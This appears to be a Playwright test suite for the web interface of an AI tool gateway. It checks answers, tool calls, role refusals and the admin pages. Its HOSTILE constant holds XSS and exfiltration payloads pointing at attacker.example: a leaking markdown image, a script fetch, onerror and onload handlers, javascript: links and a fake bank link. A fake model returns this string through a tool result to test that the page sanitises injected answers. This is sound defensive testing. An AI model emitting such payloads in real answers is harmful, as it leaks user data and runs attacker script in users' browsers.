"""The pages in a real browser: a question asked and answered, and no page does anything foreign."""

import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from tests.fakes.messages_turns import Turn, rejects, says, uses
from tests.ways.house import House, house

CHROMIUM = shutil.which("chromium")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
PASSWORD = "a-long-Pass-phrase-9"
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium"),
]

HOSTILE = """Here you are.
![pixel](https://attacker.example/markdown.png?leak=1)
![ref][r]
<img src="https://attacker.example/html.png" onerror="alert(1)">
<script>fetch('https://attacker.example/script')</script>
<iframe src="https://attacker.example/frame"></iframe>
<svg onload="alert(2)"><image href="https://attacker.example/svg.png"/></svg>
<link rel="stylesheet" href="https://attacker.example/style.css">
<base href="https://attacker.example/">
[run me](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)
[a friendly bank](https://attacker.example/bank)

[r]: https://attacker.example/reference.png
"""


def answer(body: dict[str, Any]) -> Any:
    """The model of these tests: what it does is in the question."""
    last = body["messages"][-1]["content"]
    if not isinstance(last, str) and any(one.get("type") == "tool_result" for one in last):
        hostile = "attacker" in str(last)
        return says(HOSTILE) if hostile else says("It is **noon**, says the clock.")
    asked = last if isinstance(last, str) else last[-1]["text"]
    return _first_turn(asked)


def _first_turn(asked: str) -> Turn | Any:
    if "write" in asked:
        return uses(("upstream__get_time", {}), ("upstream__write_note", {"text": "x"}))
    if "slow" in asked:
        return uses(("upstream__slow", {"seconds": 20 if "very" in asked else 2}))
    if "hostile" in asked:
        return uses(("upstream__echo", {"text": HOSTILE}), text=HOSTILE)
    if "fail" in asked:
        return rejects(400, "invalid_request_error", "No.")
    return uses(("upstream__get_time", {}), text="Let me look.")


@dataclass
class Watch:
    """What a context's pages did that nobody should see."""

    foreign: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def home() -> Iterator[House]:
    with house(answer) as open_house:
        yield open_house


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        with_flags = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield with_flags
        with_flags.close()


@pytest.fixture(scope="module")
def sessions(browser: Browser, home: House) -> dict[str, Any]:
    """Each person's session, after they have set their password by their link."""
    return {who: _set_up(browser, home, who) for who in home.tokens}


def _set_up(browser: Browser, home: House, who: str) -> Any:
    context = browser.new_context()
    page = context.new_page()
    page.goto(home.setup_url(who))
    for number in (1, 2):
        page.fill(f"[name=new_password{number}]", PASSWORD)
    page.click("button[type=submit]")
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
    state = context.storage_state()
    context.close()
    return state


def watched(context: BrowserContext, home: House) -> Watch:
    """Note every request to another host (and stop it), dialog, console error and page error."""
    watch = Watch()
    own = urlsplit(home.base).netloc

    def route(route: Any) -> None:
        if urlsplit(route.request.url).netloc == own:
            route.continue_()
            return
        watch.foreign.append(route.request.url)
        route.abort()

    def attach(page: Page) -> None:
        page.on("pageerror", lambda error: watch.problems.append(str(error)))
        page.on("dialog", lambda dialog: (watch.problems.append(dialog.message), dialog.dismiss()))
        page.on(
            "console",
            lambda said: watch.problems.append(said.text) if said.type == "error" else None,
        )

    context.route("**/*", route)
    context.on("page", attach)
    return watch


@pytest.fixture
def visit(browser: Browser, home: House, sessions: dict[str, Any]) -> Iterator[Any]:
    """Open a page as somebody; at the end nothing foreign may have happened on it."""
    opened = []

    def open_as(who: str = "dev@example.com", path: str = "/", **options: Any) -> Page:
        context = browser.new_context(storage_state=sessions.get(who), **options)
        opened.append((context, watched(context, home)))
        page = context.new_page()
        page.goto(home.base + path)
        return page

    yield open_as
    for context, watch in opened:
        context.close()
        assert (watch.foreign, watch.problems) == ([], [])


def ask(page: Page, text: str) -> Any:
    """Type a question and send it by the keyboard; the article that will hold its answer."""
    page.get_by_label("Your question").fill(text)
    page.keyboard.press("Enter")
    return page.locator("article.question").last


# --- Asking ---------------------------------------------------------------------------------------
def test_a_question_is_answered_with_the_call_it_rests_on(visit):
    page = visit()
    article = ask(page, "What time is it?")

    expect(article.locator(".answer")).to_have_text("It is noon, says the clock.")
    expect(article.locator(".answer strong")).to_have_text("noon")
    expect(article.get_by_text("Rests on 1 call")).to_be_visible()
    expect(article.locator(".call .name")).to_have_text("upstream · get_time")
    expect(article.locator(".facts")).to_contain_text(re.compile(r"tokens in, \d+ out"))
    expect(article.locator(".facts")).to_contain_text("$")
    expect(page.get_by_role("status")).to_have_text("The answer is here.")


def test_a_call_opens_by_the_keyboard_to_its_arguments_and_result(visit):
    article = ask(visit(), "What time is it?")

    article.locator("summary").focus()
    article.page.keyboard.press("Enter")

    expect(article.get_by_role("heading", name="Arguments")).to_be_visible()
    expect(article.locator(".call pre").last).to_have_text(re.compile(r"\d{4}-\d\d-\d\dT"))


def test_a_follow_up_stays_in_the_conversation_also_after_a_reload(visit):
    page = visit()
    expect(ask(page, "What time is it?").locator(".answer")).to_be_visible()
    expect(ask(page, "And now?").locator(".answer")).to_be_visible()
    assert re.search(r"/conversation/[0-9a-f-]{36}$", page.url)

    page.reload()

    expect(page.locator("h2.asked")).to_have_text(["What time is it?", "And now?"])
    expect(page.locator("#recent-list a[aria-current=page] .text")).to_have_text("What time is it?")


def test_a_question_that_runs_goes_on_after_a_reload(visit):
    page = visit()
    expect(ask(page, "Be slow").get_by_text("Asking upstream · slow")).to_be_visible()

    page.reload()

    expect(page.locator(".call .name")).to_have_text("upstream · slow", timeout=20_000)
    expect(page.locator(".answer")).to_be_visible()


def test_a_refusal_says_layer_rule_reason_and_what_would_help(visit):
    article = ask(visit(), "Please write it down")

    expect(article.get_by_text("Rests on 1 call; 1 other not done")).to_be_visible()
    refused = article.locator(".call", has_text="write_note")
    expect(refused.locator(".took")).to_have_text("not allowed")
    refused.locator("summary").click()
    told = dict(
        zip(
            refused.locator("dt").all_text_contents(),
            refused.locator("dd").all_text_contents(),
            strict=True,
        )
    )
    assert told["Layer"] == "role"
    assert told["Why"] == "The role developer may not call write_note on upstream."
    assert told["Rule"].startswith("role_restrictions.developer on upstream")
    assert "What would help" in told


def test_a_question_is_stopped(visit):
    page = visit()
    article = ask(page, "Be very slow")
    expect(article.get_by_text("Asking upstream · slow")).to_be_visible()

    page.get_by_role("button", name="Stop").click()

    expect(article.get_by_text("You stopped this question.")).to_be_visible()
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()


def test_a_failure_is_said_and_the_box_is_free_again(visit):
    page = visit()
    article = ask(page, "Now fail")

    expect(article.locator(".note.bad")).to_contain_text("could not be answered")
    expect(ask(page, "What time is it?").locator(".answer")).to_be_visible()


def test_your_tools_shows_what_is_open_and_why_the_rest_is_not(visit):
    page = visit()
    page.get_by_role("button", name=re.compile("^Your tools")).click()
    drawer = page.get_by_role("dialog", name="Your tools")

    expect(drawer.locator("li", has_text="get_time")).to_contain_text("only reads")
    drawer.get_by_text(re.compile("Not open to you")).click()
    expect(drawer.locator(".withheld li", has_text="write_note")).to_contain_text("may not call")
    drawer.get_by_placeholder("Filter by name or purpose").fill("echo")
    expect(drawer.locator("li > strong")).to_have_text(["echo"])
    drawer.get_by_role("button", name="Close").click()
    expect(drawer).to_be_hidden()


@pytest.mark.parametrize("options", [PHONE, {"color_scheme": "dark"}], ids=["phone", "dark"])
def test_nothing_runs_out_of_the_page(visit, options):
    page = visit(**options)
    article = ask(page, "Something hostile")
    expect(article.locator(".answer")).to_be_visible()
    article.locator(".call summary").click()

    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0


def test_logging_out_and_in(browser, home, sessions):
    context = browser.new_context(storage_state=sessions["dev@example.com"])
    page = context.new_page()
    page.goto(home.base)
    page.locator(".person summary").click()
    page.get_by_role("button", name="Log out").click()
    expect(page).to_have_url(f"{home.base}/login/?next=/")

    page.get_by_label("Email").fill("dev@example.com")
    page.get_by_label("Password").fill(PASSWORD)
    page.keyboard.press("Enter")

    expect(page.get_by_label("Your question")).to_be_focused()
    sessions["dev@example.com"] = context.storage_state()
    context.close()


# --- What others wrote does nothing ---------------------------------------------------------------
def test_the_watch_sees_what_a_careless_page_would_do(browser, home):
    """The control: these texts do leak and run where nothing holds them."""
    context = browser.new_context()
    watch = watched(context, home)
    page = context.new_page()
    page.set_content(HOSTILE)
    page.wait_for_timeout(300)
    context.close()

    assert {urlsplit(url).path for url in watch.foreign} >= {"/html.png", "/script", "/frame"}
    assert "2" in watch.problems


def test_a_hostile_answer_makes_no_request_and_runs_nothing(visit):
    page = visit()
    article = ask(page, "Something hostile")
    box = article.locator(".answer")
    expect(box).to_contain_text("Here you are.")
    article.locator(".call summary").click()
    page.wait_for_timeout(300)

    assert box.locator("img, script, iframe, svg, link, base, style, form").count() == 0
    links = [link.get_attribute("href") for link in box.locator("a").all()]
    assert links and all(link.startswith("https://attacker.example/") for link in links)
    expect(box).to_contain_text("a friendly bank(attacker.example)")
    assert box.locator("a").last.get_attribute("rel") == "noopener noreferrer nofollow"

    page.reload()
    expect(page.locator(".answer")).to_contain_text("Here you are.")


def test_the_admin_shows_hostile_rows_as_text(visit, home):
    page = visit("ada@example.com", "/admin/")
    for path in (
        "registry/server/",
        "registry/tool/?state__exact=quarantined",
        "gateway/question/",
        "gateway/call/",
        "audit/entry/",
        "accounts/team/",
    ):
        page.goto(f"{home.base}/admin/{path}")
        page.locator("#result_list tbody tr th a").first.click()
        expect(
            page.get_by_role("link", name="Close").or_(page.get_by_text("Save", exact=True))
        ).to_be_visible()


def test_a_rule_is_made_in_the_admin(visit):
    page = visit("ada@example.com", "/admin/accounts/rule/add/")
    page.locator("[name=kind]").select_option("blocked")
    page.locator("[name=patterns]").fill('["echo["]')
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_text("The policy would not hold together")).to_be_visible()

    page.locator("[name=patterns]").fill('["format_disk"]')
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_text("format_disk")).to_be_visible()
